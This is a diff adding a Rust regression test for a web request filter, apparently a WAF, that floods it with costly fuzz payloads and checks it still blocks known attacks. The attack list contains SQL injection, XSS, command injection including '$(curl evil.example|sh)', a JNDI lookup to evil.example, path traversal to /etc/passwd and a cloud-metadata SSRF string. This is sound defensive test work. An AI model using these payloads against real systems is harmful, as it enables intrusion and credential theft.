@@ -106,3 +106,162 @@ fn binary_data_is_no_evidence_however_costly() {
         "it cost too much, as compressed data may by chance"
     );
 }
+
+/// Numbers in no order, the same in each run (Lehmer's generator).
+struct Draw(u64);
+
+impl Draw {
+    fn below(&mut self, end: usize) -> usize {
+        self.0 = self
+            .0
+            .wrapping_mul(0x5851_f42d_4c95_7f2d)
+            .wrapping_add(0x1405_7b7e_f767_814f);
+        usize::try_from(self.0 >> 33).unwrap() % end
+    }
+
+    fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
+        of[self.below(of.len())]
+    }
+}
+
+/// What one thing or another is slow with: openings that are never closed, words of rules, codes within codes.
+const COSTLY: &[&str] = &[
+    "<a ",
+    "<!--",
+    "' or ",
+    "\"--",
+    "((",
+    "../",
+    "{{",
+    "}}",
+    "${",
+    "$(",
+    "%25",
+    "%u00",
+    "&#x",
+    "\\u00",
+    ";cat ",
+    "|",
+    "`",
+    "=",
+    "\"on",
+    "union ",
+    "select ",
+    "from ",
+    "\n",
+    "/*",
+    "*/",
+    "0x2e",
+    "\u{fffd}",
+    "\u{ff1c}",
+    "!+[]",
+    "a",
+    "1",
+    ",",
+    "-",
+    "@",
+    "#",
+    "javascript:",
+    "http://",
+    "JyBPUiAxPTEtLQ",
+    "<?",
+    "__proto__",
+    "O'Neill",
+];
+
+/// A value of some of them, and how it is put into a request: in a form, in JSON, as text, in a cookie, in a path.
+fn payload(draw: &mut Draw, bytes: usize) -> (usize, String) {
+    let pieces: Vec<&str> = (0..=draw.below(6)).map(|_| draw.one(COSTLY)).collect();
+    let value = pieces.concat();
+    let each = 1 + draw.below(40);
+    let field = value.repeat(each);
+    let form = draw.below(5);
+    let one = match form {
+        0 => format!("p={}&", field.replace('&', "%26")),
+        1 => format!("{field:?},"),
+        _ => field,
+    };
+    (form, one.repeat(1 + bytes / one.len()))
+}
+
+/// Whether a request that carries a text so is refused.
+fn sends(stage: &Stage, (form, text): (usize, &str), peer: &str) -> bool {
+    let mut request = get("/search").from(peer);
+    let cookie = format!(
+        "a={}",
+        text.replace(';', "%3B")
+            .get(..4_000.min(text.len()))
+            .unwrap_or_default()
+    );
+    let json = format!("[{text}null]");
+    let mut headers: Vec<(&str, &[u8])> = Vec::new();
+    let (content_type, body): (&[u8], &[u8]) = match form {
+        0 => (b"application/x-www-form-urlencoded", text.as_bytes()),
+        1 => (b"application/json", json.as_bytes()),
+        2 => (b"text/plain", text.as_bytes()),
+        3 => {
+            headers.push(("cookie", cookie.as_bytes()));
+            (b"", b"")
+        }
+        _ => {
+            request.query = text.get(..8_000.min(text.len())).unwrap_or_default().to_owned();
+            (b"", b"")
+        }
+    };
+    headers.push(("content-type", content_type));
+    let headers = headers.as_slice();
+    let view = RequestView {
+        method: "POST",
+        headers: &headers,
+        ..request.view()
+    };
+    let body = BodyView {
+        bytes: body,
+        is_whole: true,
+    };
+    stage.guard.check(&view).is_block() || stage.guard.check_body(&view, body).is_block()
+}
+
+/// How many payloads are sent in the gate: some seconds of an unoptimised build. `BUCKLER_PAYLOADS=10000` sends as many.
+const PAYLOADS: usize = 250;
+
+#[test]
+fn after_the_costliest_payloads_the_same_attacks_are_caught_as_before() {
+    const BYTES: usize = 8 << 10;
+    let attacks: &[(usize, &str)] = &[
+        (0, "q=1'+or+'1'%3D'1"),
+        (0, "q=-1+union+select+1,2,3"),
+        (0, "q=1)+or+(1%3D1"),
+        (0, "q=%3Cscript%3Ealert(1)%3C/script%3E"),
+        (0, "q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"),
+        (0, "q=;cat+/etc/passwd"),
+        (0, "q=$(curl+evil.example|sh)"),
+        (0, "q={{7*7}}"),
+        (0, "q=${jndi:ldap://evil.example/a}"),
+        (0, "q=../../../../etc/passwd"),
+        (1, "\"' or 1=1--\","),
+        (1, "\"<svg onload=alert(1)>\","),
+        (3, "' or 1=1--"),
+        (4, "q=http://169.254.169.254/latest/meta-data/"),
+    ];
+    let stage =
+        stage(json!({ "SECURITY_CHECKS": {"sqli": 1, "xss": 1, "command": 1, "flood": 0, "hpp": 0, "format": 1} }));
+    let caught = |stage: &Stage| -> Vec<bool> {
+        let peers = (0..).map(|number| format!("198.51.100.{number}"));
+        let tries = attacks.iter().zip(peers);
+        tries.map(|(attack, peer)| sends(stage, *attack, &peer)).collect()
+    };
+    let before = caught(&stage);
+    assert!(before.iter().all(|is_caught| *is_caught), "{before:?}");
+    let count = std::env::var("BUCKLER_PAYLOADS")
+        .ok()
+        .and_then(|count| count.parse().ok())
+        .unwrap_or(PAYLOADS);
+    let mut draw = Draw(5);
+    for number in 0..count {
+        let (form, text) = payload(&mut draw, BYTES);
+        sends(&stage, (form, &text), &format!("192.0.2.{}", number % 250));
+    }
+    assert_eq!(caught(&stage), before);
+    assert!(stage.guard.failing_detectors().iter().all(|health| health.is_on));
+}
